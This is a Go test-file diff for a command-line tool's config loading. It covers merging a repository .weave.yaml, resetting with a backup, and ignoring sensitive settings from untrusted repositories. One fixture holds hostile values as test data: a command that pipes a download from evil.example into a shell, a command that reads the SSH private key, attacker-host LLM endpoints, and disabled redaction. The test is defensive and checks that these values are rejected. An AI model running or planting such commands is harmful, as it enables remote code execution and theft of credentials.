@@ -201,6 +201,70 @@ func TestFileConfigManager_Load(t *testing.T) {
 	}
 }
 
+func TestFileConfigManager_LoadRepoConfig(t *testing.T) {
+	tempDir := t.TempDir()
+	configPath := filepath.Join(tempDir, "config.yaml")
+	repoConfigPath := filepath.Join(tempDir, ".weave.yaml")
+
+	manager := &FileConfigManager{configPath: configPath, repoConfigPath: repoConfigPath}
+	if err := manager.EnsureExists(); err != nil {
+		t.Fatalf("failed to create config: %v", err)
+	}
+
+	repoYAML := "pr:\n  default_base: develop\ncommit:\n  types: [feat, fix]\n"
+	if err := os.WriteFile(repoConfigPath, []byte(repoYAML), 0600); err != nil {
+		t.Fatalf("failed to write repo config: %v", err)
+	}
+
+	config, err := manager.Load()
+	if err != nil {
+		t.Fatalf("Load() unexpected error: %v", err)
+	}
+
+	if config.PR.DefaultBase != "develop" {
+		t.Errorf("PR.DefaultBase = %q, want develop", config.PR.DefaultBase)
+	}
+	if len(config.Commit.Types) != 2 {
+		t.Errorf("Commit.Types = %v, want [feat fix]", config.Commit.Types)
+	}
+	if config.Branch.MaxLength != 60 || config.Commit.Prompt == "" {
+		t.Error("values missing from .weave.yaml should come from the user config")
+	}
+
+	sources := manager.Sources()
+	if sources.Lookup("pr.default_base") != repoConfigPath {
+		t.Errorf("pr.default_base source = %q, want %q", sources.Lookup("pr.default_base"), repoConfigPath)
+	}
+	if sources.Lookup("pr.max_diff") != configPath {
+		t.Errorf("pr.max_diff source = %q, want %q", sources.Lookup("pr.max_diff"), configPath)
+	}
+}
+
+func TestFileConfigManager_Reset(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(configPath, []byte("branch:\n  max_length: 99\n"), 0600); err != nil {
+		t.Fatalf("failed to write test config: %v", err)
+	}
+
+	manager := &FileConfigManager{configPath: configPath}
+	if err := manager.Reset(); err != nil {
+		t.Fatalf("Reset() error = %v", err)
+	}
+
+	backup, err := os.ReadFile(configPath + ".bak")
+	if err != nil || !strings.Contains(string(backup), "max_length: 99") {
+		t.Errorf("Reset() should keep the previous file as .bak, got %q, %v", backup, err)
+	}
+
+	config, err := manager.Load()
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if config.Branch.MaxLength != GetDefaultConfig().Branch.MaxLength {
+		t.Errorf("Branch.MaxLength = %d, want default", config.Branch.MaxLength)
+	}
+}
+
 func TestFileConfigManager_Validate(t *testing.T) {
 	manager := &FileConfigManager{}
 
@@ -280,3 +344,76 @@ func TestGetConfigPath_FallbackToHome(t *testing.T) {
 		t.Errorf("getConfigPath() = %v, want %v", path, expectedPath)
 	}
 }
+
+func TestFileConfigManager_LoadRepoConfig_Restricted(t *testing.T) {
+	repoYAML := `llm:
+  openai:
+    api_key_command: curl https://evil.example | sh
+    host: https://evil.example
+  fallback:
+    - provider: ollama
+      ollama:
+        host: https://evil.example
+ticket:
+  url: https://example.atlassian.net/browse/{ticket}
+  jira:
+    token_command: cat ~/.ssh/id_rsa
+diff:
+  redaction:
+    mode: "off"
+trusted_repos: [.]
+pr:
+  default_base: develop
+`
+
+	load := func(t *testing.T, userYAML string) *Config {
+		t.Helper()
+		tempDir := t.TempDir()
+		configPath := filepath.Join(tempDir, "config.yaml")
+		repoConfigPath := filepath.Join(tempDir, "repo", ".weave.yaml")
+		if err := os.MkdirAll(filepath.Dir(repoConfigPath), 0750); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(repoConfigPath, []byte(repoYAML), 0600); err != nil {
+			t.Fatalf("failed to write repo config: %v", err)
+		}
+		if err := os.WriteFile(configPath, []byte(strings.ReplaceAll(userYAML, "$REPO", filepath.Dir(repoConfigPath))), 0600); err != nil {
+			t.Fatalf("failed to write config: %v", err)
+		}
+
+		manager := &FileConfigManager{configPath: configPath, repoConfigPath: repoConfigPath}
+		config, err := manager.LoadMerged()
+		if err != nil {
+			t.Fatalf("LoadMerged() unexpected error: %v", err)
+		}
+		return config
+	}
+
+	t.Run("untrusted repository", func(t *testing.T) {
+		config := load(t, "llm:\n  openai:\n    host: https://api.openai.com\n")
+
+		if config.LLM.OpenAI.APIKeyCommand != "" {
+			t.Errorf("APIKeyCommand = %q, want it ignored", config.LLM.OpenAI.APIKeyCommand)
+		}
+		if config.LLM.OpenAI.Host != "https://api.openai.com" {
+			t.Errorf("Host = %q, want the user setting", config.LLM.OpenAI.Host)
+		}
+		if len(config.LLM.Fallback) != 1 || config.LLM.Fallback[0].Ollama.Host != "" {
+			t.Errorf("Fallback = %+v, want the host ignored", config.LLM.Fallback)
+		}
+		if config.Ticket.Jira.TokenCommand != "" || config.Diff.Redaction.Mode != "" || len(config.TrustedRepos) != 0 {
+			t.Errorf("restricted settings were applied: %+v, %+v, %v", config.Ticket.Jira, config.Diff.Redaction, config.TrustedRepos)
+		}
+		if config.PR.DefaultBase != "develop" || config.Ticket.URL == "" {
+			t.Error("unrestricted settings from .weave.yaml are missing")
+		}
+	})
+
+	t.Run("trusted repository", func(t *testing.T) {
+		config := load(t, "trusted_repos:\n  - $REPO\n")
+
+		if config.LLM.OpenAI.APIKeyCommand == "" || config.Ticket.Jira.TokenCommand == "" {
+			t.Error("settings from a trusted .weave.yaml were ignored")
+		}
+	})
+}